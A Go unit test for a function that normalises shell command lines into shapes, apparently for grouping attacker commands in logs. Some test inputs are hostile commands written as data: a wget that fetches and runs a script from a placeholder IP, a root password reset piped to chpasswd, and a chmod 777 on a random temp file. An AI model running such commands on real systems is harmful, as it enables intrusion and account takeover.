package corpus

import (
	"strings"
	"testing"
	"time"
)

func TestShape(t *testing.T) {
	tests := []struct{ name, text, want string }{
		{"empty", "", ""},
		{"plain", "uname -a", "uname -a"},
		{"blanks", "  uname \t -a \n", "uname -a"},
		{"number", "sleep 15", "sleep <n>"},
		{"decimal point", "sleep 1.5", "sleep <n>"},
		{"name with digits", "ls eth0 T1059 python3", "ls eth0 T<n> python3"},
		{"ipv4", "ping 192.0.2.1", "ping <ip>"},
		{"ipv4 and port", "nc 192.0.2.1:80", "nc <ip>"},
		{"ipv6", "ping6 2001:db8::1", "ping6 <ip>"},
		{"ipv6 in brackets", "nc [2001:db8::1]:80", "nc <ip>"},
		{"prefix", "nmap 192.0.2.0/24", "nmap <ip>"},
		{"url", "wget http://192.0.2.1/x.sh; sh x.sh", "wget <url>; sh x.sh"},
		{"url behind an option", "dd if=ftp://example.com/a", "dd if=<url>"},
		{"url in quotes", `curl "https://example.com/?a=1"`, `curl "<url>"`},
		{"hash", "grep d41d8cd98f00b204e9800998ecf8427e f", "grep <hex> f"},
		{"hex number", "mov 0xdeadbeef", "mov <hex>"},
		{"hexadecimal word stays", "cat facade", "cat facade"},
		{"base64", "echo QWxhZGRpbjpvcGVuIHNlc2FtZQ== | base64 -d", "echo <b64> | base64 -d"},
		{"a path is no base64", "/usr/local/share/applications", "/usr/local/share/applications"},
		{"bytes", `echo -ne "\x6F\x6B\x0a"`, `echo -ne "<bytes>"`},
		{"octal bytes", `printf '\101\102'`, `printf '<bytes>'`},
		{"random name", "chmod 777 /tmp/x7Gh2k9", "chmod <n> /tmp/<rnd>"},
		{"consonants", "./bvcxzrtg", "./<rnd>"},
		{"constant stays", "HTTPSPWD", "HTTPSPWD"},
		{"password", `echo "root:Abc!"|chpasswd|bash`, `echo "<secret>"|chpasswd|bash`},
		{"password by path", `echo -e 'a\na' | sudo /usr/bin/passwd root`, `echo -e '<secret>' | sudo /usr/bin/passwd root`},
		{"no password", `echo "a" | passwdd; echo "b" "c|passwd"`, `echo "a" | passwdd; echo "b" "c|passwd"`},
		{"open quote", `echo "a|passwd`, `echo "a|passwd`},
		{"case stays", "cat /etc/Passwd", "cat /etc/Passwd"},
		{"quoting stays", `echo 'a' "b"`, `echo 'a' "b"`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := Shape(tt.text); got != tt.want {
				t.Errorf("Shape(%q) = %q, want %q", tt.text, got, tt.want)
			}
		})
	}
}

func TestShapeIsLinear(t *testing.T) {
	for _, unit := range []string{"1.", "a1", "://", ":", `\x41`, "[", "=@", "\"", "'\"", "\"a\"|"} {
		begin := time.Now()
		Shape(strings.Repeat(unit, 8<<20/len(unit)))
		if took := time.Since(begin); took > 2*time.Second {
			t.Errorf("Shape of 8 MiB of %q took %v", unit, took)
		}
	}
}
